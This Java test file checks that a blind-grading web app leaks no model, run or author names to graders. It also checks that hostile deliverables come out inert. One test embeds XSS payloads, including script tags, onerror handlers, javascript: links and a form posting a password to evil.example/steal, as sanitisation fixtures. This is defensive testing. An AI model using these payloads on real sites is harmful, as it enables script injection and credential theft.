package dev.parity.graders.web;

import static org.assertj.core.api.Assertions.assertThat;

import dev.parity.documents.Documents;
import dev.parity.documents.FileFormat;
import dev.parity.documents.PageOptions;
import dev.parity.documents.PdfPageRenderer;
import dev.parity.documents.TextPiece;
import dev.parity.documents.testing.HostileFiles;
import dev.parity.graders.campaign.CampaignFile;
import dev.parity.graders.campaign.CampaignFixture;
import dev.parity.graders.campaign.CampaignSettings;
import dev.parity.graders.campaign.Candidate;
import dev.parity.graders.campaign.DeliverableView;
import dev.parity.graders.campaign.Packets;
import dev.parity.graders.campaign.RenderedView;
import dev.parity.graders.pages.PacketPageImages;
import dev.parity.graders.pages.PageCache;
import dev.parity.graders.pages.RenderQueue;
import dev.parity.graders.pages.RenderStatus;
import dev.parity.graders.testing.FakePageRenderers;
import dev.parity.tasks.Task;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The blinding key stays on the server: everything a grader can reach (every page and link, every
 * download, the draft endpoint's answers, error pages, every header, and an offline packet) is
 * searched for what would tell who made a deliverable.
 */
class BlindingTest {
  private static final Pattern LINK = Pattern.compile("(?:href|src|action)=\"(/[^\"]*)\"");
  @TempDir Path folder;

  @Test
  void nothingAGraderCanReachNamesAModelARunAnAttemptAnAuthorAFileOrTheBaselineSide() throws Exception {
    try (AppFixture app = new AppFixture(folder.resolve("app"), 6, DeliverableView.plain(), true)) {
      List<String> secrets = secrets(app);
      Client grader = app.signedIn("acc1");
      Set<String> visited = new HashSet<>();
      List<String> seen = crawl(grader, visited);
      List<String> assignments = visited.stream().filter(p -> p.matches("/a/[0-9a-f]{32}")).toList();
      assertThat(assignments).hasSize(app.store.assignments.queue("acc1").size());
      assertThat(visited).anyMatch(p -> p.contains("/files/A/")).anyMatch(p -> p.contains("/files/B/"))
          .anyMatch(p -> p.contains("/files/R/"));
      // What a grader gets back when saving a draft or submitting something incomplete.
      String csrf = Client.csrf(grader.get("/queue").body());
      for (String page : assignments) {
        HttpResponse<String> draft = grader.postJson(page + "/draft", "{\"rationale\":\"so far\",\"seconds\":5}", csrf);
        seen.add(draft.headers().map() + "\n" + draft.body());
        HttpResponse<String> incomplete = grader.post(page + "/submit", Map.of("_csrf", csrf, "verdict", "A"));
        assertThat(incomplete.statusCode()).isEqualTo(422);
        seen.add(incomplete.headers().map() + "\n" + incomplete.body());
      }
      // An offline packet of the same grader.
      Path packet = folder.resolve("packet");
      new Packets(app.store.assignments, app.store.blobs, DeliverableView.plain(), app.store.clock)
          .export("acc1", null, packet);
      try (Stream<Path> files = Files.walk(packet)) {
        for (Path file : files.filter(Files::isRegularFile).toList()) {
          seen.add(packet.relativize(file) + "\n" + Files.readString(file));
        }
      }

      assertNoSecrets(seen, secrets);
    }
  }

  @Test
  void pageImagesTheirTextViewsAndAPacketsPagesNameNothingThatUnblinds() throws Exception {
    CampaignFixture store = new CampaignFixture(folder.resolve("store"));
    Task task = CampaignFixture.task("t1", CampaignFixture.ACCOUNTANTS);
    List<Candidate> candidates = List.of(new Candidate(task, "model-x", 0, "run-1/model-x/t1/0",
        List.of(CampaignFile.put(store.blobs, "model-x-t1-answer.pdf", FakePageRenderers.pdf("Total 1200", "Page two"),
            null)),
        List.of(CampaignFile.put(store.blobs, "summary_final_JaneDoe.pdf", FakePageRenderers.pdf("Total is 1200"), null)),
        List.of(CampaignFile.put(store.blobs, "q3-actuals.pdf", FakePageRenderers.pdf("Q3 1200"), "Q3 figures"))));
    try (RenderQueue queue = new RenderQueue(new PageCache(store.database, store.clock), store.blobs, new RenderedView(),
        new PdfPageRenderer(), new PageOptions(3, 200), 1);
        AppFixture app = new AppFixture(store, new CampaignSettings("blind-pages", 1, 0, 3, false, 20),
            AppFixture.roster(1), candidates, new RenderedView(), queue)) {
      for (CampaignFile file : store.campaigns.files(app.campaign.id())) {
        assertThat(queue.render(file.sha256(), FileFormat.PDF).join().status()).isEqualTo(RenderStatus.DONE);
      }
      Set<String> visited = new HashSet<>();
      List<String> seen = crawl(app.signedIn("acc1"), visited);
      assertThat(visited).anyMatch(p -> p.matches("/a/[0-9a-f]{32}/files/[AB]/1/pages/2"))
          .anyMatch(p -> p.endsWith("/files/B/1/text")).anyMatch(p -> p.endsWith("/files/R/1/pages/1"));
      Path packet = folder.resolve("packet");
      new Packets(store.assignments, store.blobs, new RenderedView(), store.clock, new PacketPageImages(queue))
          .export("acc1", null, packet);
      try (Stream<Path> files = Files.walk(packet)) {
        for (Path file : files.filter(Files::isRegularFile).toList()) {
          seen.add(packet.relativize(file) + "\n" + new String(Files.readAllBytes(file), StandardCharsets.UTF_8));
        }
      }
      assertThat(seen).anyMatch(s -> s.startsWith("item-01/side-by-side.html"));
      assertNoSecrets(seen, secrets(app));
    }
  }

  /** Every page, link, image and download a grader reaches from the queue, with headers, as text. */
  private static List<String> crawl(Client grader, Set<String> visited) {
    Deque<String> toVisit = new ArrayDeque<>(List.of("/", "/queue", "/next", "/sign-in", "/nowhere"));
    List<String> seen = new ArrayList<>();
    while (!toVisit.isEmpty()) {
      String path = toVisit.poll();
      if (!visited.add(path) || path.equals("/sign-out")) {
        continue;
      }
      HttpResponse<byte[]> response = grader.bytes(path);
      String body = new String(response.body(), StandardCharsets.UTF_8);
      seen.add(path + "\n" + response.headers().map() + "\n" + body);
      response.headers().firstValue("Location").ifPresent(toVisit::add);
      Matcher links = LINK.matcher(body);
      while (links.find()) {
        toVisit.add(links.group(1).replace("&amp;", "&"));
      }
    }
    return seen;
  }

  private static void assertNoSecrets(List<String> seen, List<String> secrets) {
    for (String response : seen) {
      String lower = response.toLowerCase(Locale.ROOT);
      for (String secret : secrets) {
        assertThat(lower).as("a grader's response must not contain \"%s\":\n%s", secret, response)
            .doesNotContain(secret.toLowerCase(Locale.ROOT));
      }
    }
  }

  /** Everything that would unblind: model, run, attempt, author, original names, pair ids, the roles. */
  private static List<String> secrets(AppFixture app) throws Exception {
    List<String> secrets = new ArrayList<>(List.of("model-x", "run-1", "Jane Doe", "JaneDoe", "summary_final",
        "-answer", "q3-actuals", "baseline", "candidate", "attention", "human"));
    try (Connection c = app.store.database.dataSource().getConnection(); Statement s = c.createStatement()) {
      try (ResultSet r = s.executeQuery("SELECT id, attempt_id FROM grading_pairs")) {
        while (r.next()) {
          secrets.add(r.getString(1));
          if (r.getString(2) != null) {
            secrets.add(r.getString(2));
          }
        }
      }
      try (ResultSet r = s.executeQuery("SELECT id FROM grading_campaigns")) {
        while (r.next()) {
          secrets.add(r.getString(1));
        }
      }
    }
    return secrets;
  }

  @Test
  void hostileDeliverableHtmlAndMarkdownAreInertEvenWhenTheRendererPassesThemOn() throws Exception {
    String hostile = """
        # Report
        <script>alert('pwned')</script>
        <img src="https://evil.example/track.png" onerror="alert(1)">
        <img src="x" onerror="alert(2)">
        <a href="javascript:alert(3)">click</a> [more](javascript:alert(4))
        <iframe src="https://evil.example/"></iframe>
        <style>body { background: url(https://evil.example/bg.png) }</style>
        <form action="https://evil.example/steal"><input name="password"></form>
        <svg onload="alert(5)"><use href="https://evil.example/x.svg#a"/></svg>
        <div style="background-image: url(https://evil.example/x.png)" onclick="alert(6)">styled</div>
        <base href="https://evil.example/">
        <meta http-equiv="refresh" content="0; url=https://evil.example/">
        """;
    // A renderer that hands the file's text on as HTML, unsanitised: the app must make it inert anyway.
    DeliverableView passThrough = new DeliverableView() {
      @Override
      public byte[] strip(String name, byte[] bytes) {
        return bytes;
      }

      @Override
      public Shown render(String name, byte[] bytes) {
        return new Shown(new String(bytes, StandardCharsets.UTF_8), List.of());
      }

      @Override
      public String stylesheet() {
        return "";
      }
    };
    CampaignFixture store = new CampaignFixture(folder.resolve("store"));
    Task task = CampaignFixture.task("t1", CampaignFixture.ACCOUNTANTS);
    List<Candidate> candidates = List.of(new Candidate(task, "model-x", 0, "a",
        List.of(CampaignFile.put(store.blobs, "report.md", hostile.getBytes(StandardCharsets.UTF_8), null)),
        List.of(CampaignFile.put(store.blobs, "b.md", "# Plain\n".getBytes(StandardCharsets.UTF_8), null)),
        List.of()));
    try (AppFixture app = new AppFixture(store, 1, passThrough, false, candidates)) {
      Client grader = app.signedIn("acc1");
      String id = app.store.assignments.nextOpen("acc1").orElseThrow();
      HttpResponse<String> page = grader.get("/a/" + id);
      assertThat(page.statusCode()).isEqualTo(200);
      String html = page.body();
      assertThat(html).contains("styled", "click");
      org.jsoup.nodes.Document document = org.jsoup.Jsoup.parse(html);
      assertThat(document.select("script")).singleElement()
          .satisfies(s -> assertThat(s.attr("src")).isEqualTo("/static/app.js"));
      assertThat(document.select("iframe, style, svg, base, meta[http-equiv], object, embed, [style]")).isEmpty();
      assertThat(document.select("form")).hasSize(2);
      for (org.jsoup.nodes.Element element : document.getAllElements()) {
        for (org.jsoup.nodes.Attribute attribute : element.attributes()) {
          assertThat(attribute.getKey()).as(element.toString()).doesNotStartWith("on");
          assertThat(attribute.getValue()).as(element.toString()).doesNotContain("javascript:", "evil.example");
        }
      }
      assertThat(page.headers().firstValue("Content-Security-Policy").orElseThrow())
          .contains("script-src 'self'", "default-src 'none'");
      HttpResponse<byte[]> download = grader.bytes("/a/" + id + "/files/A/1");
      assertThat(download.headers().firstValue("Content-Disposition").orElseThrow()).startsWith("attachment;");
      assertThat(download.headers().firstValue("Content-Type").orElseThrow()).isEqualTo("application/octet-stream");
      assertThat(download.headers().firstValue("Content-Security-Policy").orElseThrow()).startsWith("sandbox");
    }
  }

  @Test
  void downloadsAndPacketsOfFilesWithActiveContentCarryNoneOfItButKeepTheirText() throws Exception {
    CampaignFixture store = new CampaignFixture(folder.resolve("store"));
    Task task = CampaignFixture.task("t1", CampaignFixture.ACCOUNTANTS);
    List<Candidate> candidates = List.of(new Candidate(task, "model-x", 0, "a",
        List.of(CampaignFile.put(store.blobs, "memo.docx", HostileFiles.docx(), null),
            CampaignFile.put(store.blobs, "memo.pdf", HostileFiles.pdf(), null)),
        List.of(CampaignFile.put(store.blobs, "b.docx", HostileFiles.docx(), null),
            CampaignFile.put(store.blobs, "b.pdf", HostileFiles.pdf(), null)),
        List.of()));
    try (AppFixture app = new AppFixture(store, 1, new RenderedView(), false, candidates)) {
      Client grader = app.signedIn("acc1");
      String id = app.store.assignments.nextOpen("acc1").orElseThrow();
      for (String side : List.of("A", "B")) {
        for (int n = 1; n <= 2; n++) {
          byte[] download = grader.bytes("/a/" + id + "/files/" + side + "/" + n).body();
          assertThat(HostileFiles.activeParts(download)).as("download %s/%d", side, n).isEmpty();
          assertThat(text(download)).contains(HostileFiles.TEXT);
        }
      }
      Path packet = folder.resolve("packet");
      new Packets(app.store.assignments, app.store.blobs, new RenderedView(), app.store.clock)
          .export("acc1", null, packet);
      List<Path> documents;
      try (Stream<Path> files = Files.walk(packet)) {
        documents = files.filter(f -> f.toString().endsWith(".docx") || f.toString().endsWith(".pdf")).toList();
      }
      assertThat(documents).hasSize(4);
      for (Path document : documents) {
        byte[] bytes = Files.readAllBytes(document);
        assertThat(HostileFiles.activeParts(bytes)).as("packet file %s", document).isEmpty();
        assertThat(text(bytes)).contains(HostileFiles.TEXT);
      }
    }
  }

  private static String text(byte[] bytes) {
    FileFormat format = bytes[0] == '%' ? FileFormat.PDF : FileFormat.DOCX;
    return String.join("\n", Documents.pieces(format, bytes).stream().map(TextPiece::text).toList());
  }
}
